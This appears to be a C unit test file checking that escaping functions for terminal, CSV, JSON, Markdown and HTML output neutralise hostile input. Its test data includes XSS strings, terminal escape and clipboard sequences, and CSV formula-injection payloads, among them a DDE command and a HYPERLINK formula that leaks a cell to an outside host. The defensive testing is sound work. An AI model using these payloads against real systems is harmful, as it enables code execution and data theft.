#include "unit.h"

#include "json_check.h"
#include "util/escape.h"
#include "util/utf8.h"

#include "util/banned.h"

struct pair {
	struct tc_str in;
	const char *out;
};

#define IN(literal) {literal, sizeof(literal) - 1}

static void csv_safe(struct tc_buf *out, struct tc_str s)
{
	tc_escape_csv(out, s, false);
}

static void csv_raw(struct tc_buf *out, struct tc_str s)
{
	tc_escape_csv(out, s, true);
}

static void check_pairs(const struct pair *pairs, size_t count,
			void (*escape)(struct tc_buf *out, struct tc_str s))
{
	struct tc_buf b;

	tc_buf_init(&b, 1000);
	for (size_t i = 0; i < count; i++) {
		tc_buf_clear(&b);
		escape(&b, pairs[i].in);
		assert_string_equal(tc_buf_cstr(&b), pairs[i].out);
	}
	tc_buf_release(&b);
}

static void test_terminal(void **state)
{
	static const struct pair pairs[] = {
		{IN(""), ""},
		{IN("aws-cli/2.9.1 \\ \"~\""), "aws-cli/2.9.1 \\ \"~\""},
		{IN("caf\xc3\xa9 \xe6\x97\xa5 e\xcc\x81"), "caf\xc3\xa9 \xe6\x97\xa5 e\xcc\x81"},
		{IN("a\nb\tc\rd"), "a\\nb\\tc\\rd"},
		{IN("nul\0end"), "nul\\x00end"},
		{IN("\x1b]0;title\x07"), "\\x1b]0;title\\x07"},
		{IN("\x1b]52;c;ZXZpbA==\x1b\\"), "\\x1b]52;c;ZXZpbA==\\x1b\\"},
		{IN("ab\b\bxy\x7f"), "ab\\x08\\x08xy\\x7f"},
		/* C1 as a character, and as a bare byte. */
		{IN("\xc2\x9b" "31m"), "\\x9b31m"},
		{IN("\x9b" "31m"), "\\x9b31m"},
		{IN("\xe2\x80\xaegnp\xe2\x81\xa9"), "\\u202egnp\\u2069"},
		{IN("a\xe2\x80\x8b" "b\xef\xbb\xbf"), "a\\u200bb\\ufeff"},
		{IN("x\xf3\xa0\x81\xa1"), "x\\U000e0061"},
		{IN("\xc0\x80\xff\xed\xa0\x80"), "\\xc0\\x80\\xff\\xed\\xa0\\x80"},
		{IN("cut \xf0\x9f"), "cut \\xf0\\x9f"},
		{IN("\xe2\x80\xa8"), "\\u2028"},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), tc_escape_terminal);
}

static void test_ascii(void **state)
{
	static const struct pair pairs[] = {
		{IN(""), ""},
		{IN("plain \x1b[1m\n"), "plain \x1b[1m\n"},
		{IN("caf\xc3\xa9 \xe6\x97\xa5"), "caf\\u00e9 \\u65e5"},
		{IN("\xf0\x9f\x94\x91"), "\\U0001f511"},
		/* CSI, alone and in a character. */
		{IN("\x9b" "31m"), "\\x9b31m"},
		{IN("\xe6\x9b\x9b"), "\\u66db"},
		{IN("cut \xf0\x9f"), "cut \\xf0\\x9f"},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), tc_escape_ascii);
}

static void test_csv_quotes_what_must_be_quoted(void **state)
{
	static const struct pair pairs[] = {
		{IN(""), ""},
		{IN("plain"), "plain"},
		{IN("a,b"), "\"a,b\""},
		{IN("say \"hi\""), "\"say \"\"hi\"\"\""},
		{IN("two\nlines"), "\"two\nlines\""},
		{IN("a\r\nb"), "\"a\r\nb\""},
		{IN(" lead"), "\" lead\""},
		{IN("1=1"), "1=1"},
		{IN("a-b"), "a-b"},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_safe);
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_raw);
}

static void test_csv_defuses_formulas(void **state)
{
	static const struct pair pairs[] = {
		{IN("=1+1"), "\"'=1+1\""},
		{IN("+1"), "\"'+1\""},
		{IN("-1"), "\"'-1\""},
		{IN("@SUM(A1)"), "\"'@SUM(A1)\""},
		{IN("\t=1"), "\"'\t=1\""},
		{IN("\r=1"), "\"'\r=1\""},
		{IN("\n=1"), "\"'\n=1\""},
		{IN("  =1"), "\"'  =1\""},
		{IN("'=1"), "\"''=1\""},
		{IN("\"=1"), "\"'\"\"=1\""},
		{IN("\" '=1"), "\"'\"\" '=1\""},
		{IN("\xc2\xa0=1"), "\"'\xc2\xa0=1\""},       /* behind NBSP */
		{IN("\xef\xbb\xbf=1"), "\"'\xef\xbb\xbf=1\""}, /* behind a BOM */
		{IN("\xef\xbc\x9d" "1"), "\"'\xef\xbc\x9d" "1\""}, /* full-width = */
		{IN("\xef\xbc\x8b" "1"), "\"'\xef\xbc\x8b" "1\""}, /* + */
		{IN("\xef\xbc\x8d" "1"), "\"'\xef\xbc\x8d" "1\""}, /* - */
		{IN("\xef\xbc\xa0" "A"), "\"'\xef\xbc\xa0" "A\""}, /* @ */
		/* As Pacu's cloudtrail__csv_injection plants them, in a name. */
		{IN("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\""},
		{IN("=HYPERLINK(\"http://x/?\"&A1,\"go\")"),
		 "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\""},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_safe);
}

static void test_csv_raw_leaves_formulas(void **state)
{
	static const struct pair pairs[] = {
		{IN("=1+1"), "=1+1"},
		{IN("-1"), "-1"},
		{IN("=A1,B1"), "\"=A1,B1\""},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_raw);
}

static void test_csv_makes_controls_visible(void **state)
{
	static const struct pair pairs[] = {
		{IN("a\0b"), "a\\x00b"},
		{IN("\x1b[2J"), "\\x1b[2J"},
		{IN("\x7f"), "\\x7f"},
		{IN("\xc2\x9b" "1m"), "\\x9b1m"},
		{IN("caf\xc3\xa9"), "caf\xc3\xa9"},
		{IN("\xff"), "\\xff"},
		{IN("a\tb"), "\"a\tb\""},
		{IN("a;b"), "\"a;b\""},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_safe);
	check_pairs(pairs, TC_ARRAY_LEN(pairs), csv_raw);
}

static void test_json(void **state)
{
	static const struct pair pairs[] = {
		{IN(""), "\"\""},
		{IN("a/b"), "\"a/b\""},
		{IN("\"\\"), "\"\\\"\\\\\""},
		{IN("\n\r\t\b\f"), "\"\\n\\r\\t\\u0008\\u000c\""},
		{IN("a\0b"), "\"a\\u0000b\""},
		{IN("\x1b[m\x7f"), "\"\\u001b[m\\u007f\""},
		{IN("\xc2\x9b"), "\"\\u009b\""},
		{IN("\xe2\x80\xa8\xe2\x80\xa9"), "\"\\u2028\\u2029\""},
		{IN("caf\xc3\xa9 \xf0\x9f\x94\x91"), "\"caf\xc3\xa9 \xf0\x9f\x94\x91\""},
		{IN("\xff"), "\"\\\\xff\""},
		{IN("\xed\xa0\x80"), "\"\\\\xed\\\\xa0\\\\x80\""},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), tc_escape_json);
}

static void test_markdown(void **state)
{
	static const struct pair pairs[] = {
		{IN(""), ""},
		{IN("10.0.0.1"), "10.0.0.1"},
		{IN("a|b"), "a\\|b"},
		{IN("a\\|b"), "a\\\\\\|b"},
		{IN("`x`"), "\\`x\\`"},
		{IN("<img src=x onerror=alert(1)>"),
		 "&lt;img src=x onerror=alert(1)&gt;"},
		{IN("&lt;"), "&amp;lt;"},
		{IN("[go](javascript:x)"), "\\[go\\](javascript:x)"},
		{IN("![i](u)"), "!\\[i\\](u)"},
		{IN("**b** _i_ ~s~"), "\\*\\*b\\*\\* \\_i\\_ \\~s\\~"},
		{IN("# h"), "\\# h"},
		{IN("a # h"), "a # h"},
		{IN("snake_case _em_"), "snake_case \\_em\\_"},
		/* Plain text of which a forge would make a link. */
		{IN("http://x.example"), "http\\://x.example"},
		{IN("www.x.example"), "www\\.x.example"},
		{IN("a@x.example"), "a\\@x.example"},
		{IN("arn:aws:iam::1:user/b.c"), "arn:aws:iam::1:user/b.c"},
		{IN("two\nlines\r"), "two\\nlines\\r"},
		{IN("\x1b[m\0"), "\\x1b\\[m\\x00"},
		{IN("\xe2\x80\xae"), "\\u202e"},
		{IN("\xff"), "\\xff"},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), tc_escape_markdown);
}

/* Otherwise the next test says nothing. */
static void test_html(void **state)
{
	static const struct pair pairs[] = {
		{IN("plain 1/2"), "plain 1/2"},
		{IN("<img src=x onerror=\"alert(1)\">"),
		 "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"},
		{IN("a'b&amp;"), "a&#39;b&amp;amp;"},
		{IN("caf\xc3\xa9\n\xe2\x80\xae\xff"), "caf\xc3\xa9\\n\\u202e\\xff"},
		{IN(""), ""},
		{IN("plain text; it's 1 \\"), "plain text; it&#39;s 1 \\"},
		{IN("</title><script>alert(\"1\")</script>"),
		 "&lt;/title&gt;&lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt;"},
		{IN("\" onload=\"x' y='"), "&quot; onload=&quot;x&#39; y=&#39;"},
		{IN("&lt;&#x3c;"), "&amp;lt;&amp;#x3c;"},
		{IN("]]> -->"), "]]&gt; --&gt;"},
		{IN("a\nb\tc\0\x1b[1m\x7f"), "a\\nb\\tc\\x00\\x1b[1m\\x7f"},
		{IN("\xe2\x80\xaegnp\xe2\x81\xa9 \xef\xbb\xbf"), "\\u202egnp\\u2069 \\ufeff"},
		{IN("caf\xc3\xa9 \xe6\x97\xa5"), "caf\xc3\xa9 \xe6\x97\xa5"},
		/* Neither characters of XML nor of HTML. */
		{IN("\xef\xbf\xbe\xef\xbf\xbf\xff\xc0\xbc"), "\\ufffe\\uffff\\xff\\xc0\\xbc"},
	};

	(void)state;
	check_pairs(pairs, TC_ARRAY_LEN(pairs), tc_escape_html);
}

static void test_the_json_check_can_refuse(void **state)
{
	static const char *const bad[] = {
		"", "\"", "\"a", "\"\x01\"", "\"\\x\"", "\"\\u12g4\"", "\"\xff\"",
		"\"\xed\xa0\x80\"", "\"\xc0\x80\"", "\"a\"b", "01", "1.", ".5", "+1", "1e",
		"nan", "{\"a\"1}", "{a:1}", "[1,]", "[1 2]", "{\"a\":1,}", "[", "tru",
	};
	static const char *const good[] = {
		"\"\"", "\"\\u00e9\\n\xc3\xa9\"", "-0.5e+3", "[]", "{}", " [1, {\"a\":null}] ",
		"9e999",
	};

	(void)state;
	for (size_t i = 0; i < TC_ARRAY_LEN(bad); i++)
		if (json_valid(tc_str(bad[i])))
			fail_msg("`%s` was taken", bad[i]);
	for (size_t i = 0; i < TC_ARRAY_LEN(good); i++)
		if (!json_valid(tc_str(good[i])))
			fail_msg("`%s` was refused", good[i]);
}

static void test_json_is_valid_whatever_comes_in(void **state)
{
	struct unit_random r = unit_random();
	struct tc_buf b;
	char in[64];

	(void)state;
	tc_buf_init(&b, 1000);
	for (int i = 0; i < 50000; i++) {
		size_t len = unit_hostile(&r, in, sizeof(in));
		tc_buf_clear(&b);
		tc_escape_json(&b, tc_str_n(in, len));
		if (b.overflow || !json_valid(tc_buf_str(&b)))
			fail_msg("round %d: %s", i, tc_buf_cstr(&b));
	}
	tc_buf_release(&b);
}

/* Entities of ours are the only `&`; no quotes, no angle brackets, nothing that hides. */
static void test_html_has_no_markup_whatever_comes_in(void **state)
{
	struct unit_random r = unit_random();
	struct tc_buf b;
	char in[64];

	(void)state;
	tc_buf_init(&b, 1000);
	for (int i = 0; i < 50000; i++) {
		tc_buf_clear(&b);
		tc_escape_html(&b, tc_str_n(in, unit_hostile(&r, in, sizeof(in))));
		for (struct tc_str rest = tc_buf_str(&b); rest.len;) {
			size_t taken;
			uint32_t c = tc_utf8_next(rest, &taken);

			assert_true(c != '<' && c != '>' && c != '"' && c != '\'');
			assert_true(c != TC_UTF8_INVALID && tc_utf8_shows(c));
			rest = tc_str_n(rest.data + taken, rest.len - taken);
			if (c == '&')
				assert_true(tc_str_starts(rest, TC_STR("amp;")) ||
					    tc_str_starts(rest, TC_STR("lt;")) ||
					    tc_str_starts(rest, TC_STR("gt;")) ||
					    tc_str_starts(rest, TC_STR("quot;")) ||
					    tc_str_starts(rest, TC_STR("#39;")));
		}
	}
	tc_buf_release(&b);
}

static void test_terminal_shows_all_that_it_prints(void **state)
{
	struct unit_random r = unit_random();
	struct tc_buf b;
	char in[64];

	(void)state;
	tc_buf_init(&b, 1000);
	for (int i = 0; i < 50000; i++) {
		size_t taken, len = unit_hostile(&r, in, sizeof(in));
		tc_buf_clear(&b);
		tc_escape_terminal(&b, tc_str_n(in, len));
		assert_false(b.overflow);
		struct tc_str s = tc_buf_str(&b);
		for (; s.len; s = tc_str_n(s.data + taken, s.len - taken)) {
			uint32_t c = tc_utf8_next(s, &taken);
			if (c == TC_UTF8_INVALID || !tc_utf8_shows(c))
				fail_msg("round %d: U+%04X", i, (unsigned)c);
		}
	}
	tc_buf_release(&b);
}

/* Reads a field as RFC 4180 has it; false when it is none. */
static bool read_field(struct tc_str s, struct tc_buf *out)
{
	if (!s.len || s.data[0] != '"') {
		tc_buf_add_str(out, s);
		return !memchr(s.data, '"', s.len) && !memchr(s.data, ',', s.len) &&
		       !memchr(s.data, '\n', s.len) && !memchr(s.data, '\r', s.len);
	}
	for (size_t i = 1; i < s.len; i++) {
		if (s.data[i] == '"' && (i + 1 == s.len || s.data[++i] != '"'))
			return i + 1 == s.len;
		tc_buf_add_char(out, s.data[i]);
	}
	return false;
}

/* The raw form reads back as the value, the safe one with a ' in front or not. */
static void test_csv_fields_read_back(void **state)
{
	struct unit_random r = unit_random();
	struct tc_buf field, back;
	char in[64];

	(void)state;
	tc_buf_init(&field, 1000);
	tc_buf_init(&back, 1000);
	for (int i = 0; i < 50000; i++) {
		struct tc_str s = tc_str_n(in, unit_hostile(&r, in, sizeof(in)));
		bool raw = i % 2;

		/* What is made visible on purpose does not read back. */
		for (size_t k = 0; k < s.len; k++)
			if (!in[k] || (!strchr("\t\n\r", in[k]) &&
				       ((unsigned char)in[k] < 0x20 ||
					(unsigned char)in[k] > 0x7e)))
				in[k] = '=';
		tc_buf_clear(&field);
		tc_buf_clear(&back);
		tc_escape_csv(&field, s, raw);
		if (!read_field(tc_buf_str(&field), &back))
			fail_msg("round %d: %s", i, tc_buf_cstr(&field));
		if (!raw && back.len == s.len + 1 && back.data[0] == '\'')
			tc_buf_consume(&back, 1);
		assert_true(tc_str_eq(tc_buf_str(&back), s));
	}
	tc_buf_release(&field);
	tc_buf_release(&back);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_terminal),
		cmocka_unit_test(test_ascii),
		cmocka_unit_test(test_csv_quotes_what_must_be_quoted),
		cmocka_unit_test(test_csv_defuses_formulas),
		cmocka_unit_test(test_csv_raw_leaves_formulas),
		cmocka_unit_test(test_csv_makes_controls_visible),
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_markdown),
		cmocka_unit_test(test_html),
		cmocka_unit_test(test_html_has_no_markup_whatever_comes_in),
		cmocka_unit_test(test_the_json_check_can_refuse),
		cmocka_unit_test(test_json_is_valid_whatever_comes_in),
		cmocka_unit_test(test_terminal_shows_all_that_it_prints),
		cmocka_unit_test(test_csv_fields_read_back),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
